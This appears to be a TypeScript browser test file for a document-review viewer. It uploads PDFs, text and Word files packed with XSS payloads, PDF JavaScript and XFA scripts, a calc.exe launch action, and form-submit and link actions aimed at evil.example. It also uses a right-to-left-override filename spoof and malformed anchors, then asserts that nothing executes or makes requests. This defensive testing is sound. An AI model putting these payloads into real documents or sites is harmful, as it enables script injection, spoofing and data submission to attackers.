/** @module-tag long */

import { beforeAll, expect, test } from 'vitest';
import { uploadFile, useStackDatabase, useTenant } from '../../../test/support/api.ts';
import { useBrowser } from '../../../test/support/browser.ts';
import { uploadPdf } from '../../../test/support/live.ts';
import { docx, paragraph } from '../../../test/support/word-files.ts';
import { issueOf, openReview, reviewPaths } from './review-data.ts';

const database = useStackDatabase();
const tenant = useTenant(database);
const chromium = useBrowser();

const html = '<img src=x onerror=alert(1)>';
const script = (text: string) => `<< /S /JavaScript /JS (${text}) >>`;
const everywhere = '/Rect [0 0 595 842]';

let pdf: string;
let text: string;
let word: string;
beforeAll(async () => {
  const xfa =
    '<xdp:xdp xmlns:xdp="x"><template><event activity="initialize">' +
    '<script contentType="application/x-javascript">app.alert(1)</script></event></template></xdp:xdp>';
  const paths = await Promise.all([
    uploadPdf(tenant, {
      filename: `${html}.pdf`,
      pages: 2,
      script: "app.alert(1); app.launchURL('http://evil.example/');",
      catalogEntries: '/AcroForm << /Fields [@field @button] /XFA @xfa >>',
      texts: [`${html}\n<script>alert(1)</script>`, 'javascript:alert(1)'],
      objects: {
        xfa: `<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`,
        web: `<< /Subtype /Link ${everywhere} /A << /S /URI /URI (http://evil.example/) >> >>`,
        code: `<< /Subtype /Link ${everywhere} /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>`,
        launch: `<< /Subtype /Link ${everywhere} /A << /S /Launch /F (calc.exe) >> >>`,
        field: `<< /Subtype /Widget /FT /Tx /T (${html}) ${everywhere} /P 4 0 R /V (${html}) /AA << /Fo ${script('app.alert(1)')} >> >>`,
        button: `<< /Subtype /Widget /FT /Btn /T (send) ${everywhere} /P 4 0 R /A << /S /SubmitForm /F (http://evil.example/) >> >>`,
        note: `<< /Subtype /FreeText ${everywhere} /Contents (${html}) /RC (<body xmlns="http://www.w3.org/1999/xhtml"><p>${html}</p></body>) /DA (/F1 12 Tf) >>`,
        screen: `<< /Subtype /Screen ${everywhere} /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>`,
      },
      pageEntries: {
        1: `/Annots [@web @code @launch @field @button @note @screen] /AA << /O ${script('app.alert(2)')} >> `,
      },
    }),
    uploadFile(
      tenant.live,
      'hostile.txt',
      'text/plain',
      Buffer.from(
        `The best cream ${html} \u202egnp.exe is guaranteed to cure eczema. <script>alert(1)</script>`,
      ),
    ),
    uploadFile(
      tenant.live,
      'hostile.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      docx({
        body: paragraph('The best cream &lt;img src=x onerror=alert(1)&gt; is guaranteed to cure eczema.'),
      }),
    ),
  ]);
  [pdf, text, word] = (await reviewPaths(tenant, paths)) as [string, string, string];
});

const hostile = [
  issueOf(1, {
    summary: `${html}\u202egnp`,
    severity: 'critical',
    anchor: { kind: 'page', page: 1, bbox: [0.1, 0.1, 0.9, 0.5] },
  }),
  issueOf(2, { anchor: { kind: 'text', start: 0, end: 9, quote: html } }),
  issueOf(3, { anchor: { kind: 'page', page: 2 ** 31, bbox: [0, 0, 1, 1] } }),
  issueOf(4, { anchor: { kind: 'page', page: 1, bbox: [1e308, -1, 1e308, 1] } }),
  issueOf(5, { anchor: { kind: 'text', start: 2 ** 50, end: 0, quote: '(.*)+\\' } }),
];

test('a PDF with scripts, links, forms and XFA runs, opens and requests nothing', async () => {
  const { page, faults } = await openReview(chromium.browser, database, tenant, pdf, { issues: hostile });
  const popups: string[] = [];
  page.on('popup', (popup) => popups.push(popup.url()));
  const url = page.url();
  await page.locator('.pdf-page[data-page="1"] .mark').first().waitFor();
  await page.locator('.pdf-page[data-page="1"]').getByText(html).first().waitFor({ state: 'attached' });
  const { x, y, width, height } = (await page.locator('.pdf-scroller').boundingBox())!;
  for (const share of [0.2, 0.4, 0.6, 0.8]) await page.mouse.click(x + width * share, y + height * share);
  for (let press = 0; press < 12; press++) await page.keyboard.press('Tab');
  await page.keyboard.press('PageDown');
  await page.waitForTimeout(500);
  for (let press = 0; press < 5; press++) await page.keyboard.press(']');
  expect(new URL(page.url()).pathname).toBe(new URL(url).pathname);
  expect(await page.locator('.pdf :is(a, iframe, embed, object, script, img, form, textarea)').count()).toBe(
    0,
  );
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(popups).toEqual([]);
  expect(faults).toEqual([]);
  await page.context().close();
});

test.for(['text', 'word'] as const)(
  'HTML and controls of writing direction in a %s file are shown as text',
  async (kind) => {
    const { page, faults, requests } = await openReview(
      chromium.browser,
      database,
      tenant,
      kind === 'text' ? text : word,
    );
    await page.locator('.review-media').getByText('<img src=x onerror=alert(1)>').first().waitFor();
    expect(await page.locator('.review-media :is(img, script)').count()).toBe(0);
    expect(await page.locator('.review-media').textContent()).not.toContain('\u202e');
    expect(requests.filter((url) => url.endsWith('/x'))).toEqual([]);
    expect(faults).toEqual([]);
    await page.context().close();
  },
);

test('the worker of pdf.js may request nothing but its own scripts', async () => {
  const { page, requests } = await openReview(chromium.browser, database, tenant, pdf);
  await page.locator('.pdf-page[data-page="1"] .pdf-text span').first().waitFor({ state: 'attached' });
  const worker = requests.find((url) => url.includes('pdf.worker'))!;
  const { headers } = await fetch(worker);
  expect(headers.get('content-security-policy')).toBe("default-src 'none'; script-src 'self'");
  const [running] = page.workers();
  const outcome = await running!.evaluate(async (target) => {
    try {
      await fetch(target);
      return 'requested';
    } catch {
      return 'refused';
    }
  }, new URL('/livez', worker).href);
  expect(outcome).toBe('refused');
  await page.context().close();
});
